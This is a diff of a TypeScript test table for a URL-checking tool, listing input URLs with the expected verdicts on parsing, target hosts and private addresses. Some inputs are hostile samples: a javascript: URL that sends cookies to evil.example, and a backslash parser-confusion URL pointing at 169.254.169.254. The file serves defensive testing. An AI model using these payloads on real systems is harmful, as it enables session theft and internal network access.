@@ -42,6 +42,13 @@ const agree = (host: string, what: string) => [
   `plain: Programs agree. All 10 connect to \`${host}\`, ${what}.`,
 ];
 const runsCode = ['bad: It runs code when followed. Do not open it unless you wrote it.'];
+const hostless = ['plain: This parses. It has no host to connect to.'];
+const isFor = (scheme: string, place: string) => [
+  `plain: This parses. It is for programs that know \`${scheme}\`. If such a program uses the network, it connects to \`${place}\`.`,
+];
+const isFile = [
+  'warn: This is a file, not a page of the web. Each computer looks for it on its own disk, so it works for nobody else.',
+];
 const publicName = 'a public name (where it points was not looked up)';
 
 const table: Readonly<Record<string, readonly string[]>> = {
@@ -69,12 +76,25 @@ const table: Readonly<Record<string, readonly string[]>> = {
   'JavaScript://example.org/%0Aalert(1)': runsCode,
   'vbscript:x': runsCode,
   "javascript:fetch('https://evil.example/'+document.cookie)": runsCode,
-  'data:,x': ['plain: This parses. No program connects to a host.'],
-  'mailto:ann@example.org': ['plain: This parses. No program connects to a host.'],
+  'data:,x': hostless,
+  'mailto:ann@example.org': hostless,
+  'tel:+15550100': hostless,
+  // Schemes whose own programs connect.
+  'postgres://db.example:5432/shop': isFor('postgres:', 'db.example:5432'),
+  'redis://cache.example/0': isFor('redis:', 'cache.example'),
+  'ssh://git.example/a': isFor('ssh:', 'git.example'),
+  // Files are where they are opened.
+  'file:///C:/Users/ann/offer.pdf': isFile,
+  'file://localhost/etc/hosts': isFile,
+  // A label that is also an ending is no alarm.
+  'https://nam.safelinks.protection.outlook.com/': [
+    ...agree('nam.safelinks.protection.outlook.com', publicName),
+    'plain: Who owns the name. The name begins like `safelinks.protection`, but belongs to `outlook.com`.',
+  ],
   // Only an address that was checked is good.
   'http://192.0.32.8/': ['good: Programs agree. All 10 connect to `192.0.32.8`, a public address.'],
   'http://10.0.0.1/': [
-    'warn: Not a public address. The address is not globally reachable: 10.0.0.0/8, Private-Use (RFC 1918). A server that fetches what users ask for should refuse it.',
+    'warn: Not a public address. The address is not globally reachable: 10.0.0.0/8, Private-Use (RFC 1918). Nobody outside its network can open it. A server that fetches what users ask for should refuse it.',
   ],
   'http://example.org/a b': [
     `plain: Some programs refuse it. Every program that accepts it connects to \`example.org\`, ${publicName}; 3 of 10 refuse it.`,
@@ -83,9 +103,13 @@ const table: Readonly<Record<string, readonly string[]>> = {
   'http://good.example\\@evil.example/': [
     'bad: Programs would connect to different hosts. `good.example`: living, urllib3 and node-url-parse; `evil.example`: curl, python, java-url and php. Cause: backslash.',
   ],
+  // What only some of them see may be inside a network.
+  'http://good.example\\@169.254.169.254/': [
+    'bad: Programs would connect to different hosts. `good.example`: living, urllib3 and node-url-parse; `169.254.169.254`: curl, python, java-url and php. Cause: backslash. `169.254.169.254` is not public.',
+  ],
   'http://evil.example:99999/': [
     'bad: This does not parse. 99999 is too large: a port is at most 65535. It is in columns 21–25.',
-    'warn: Programs may disagree. It is not certain for go, java-uri, java-url, ruby and node-url-parse: a port that does not exist.',
+    'warn: Programs may disagree. It is not certain for go, java-uri, java-url, ruby and node-url-parse: what happens with a port above 65535.',
   ],
   // What does not parse.
   'example.org/a': [
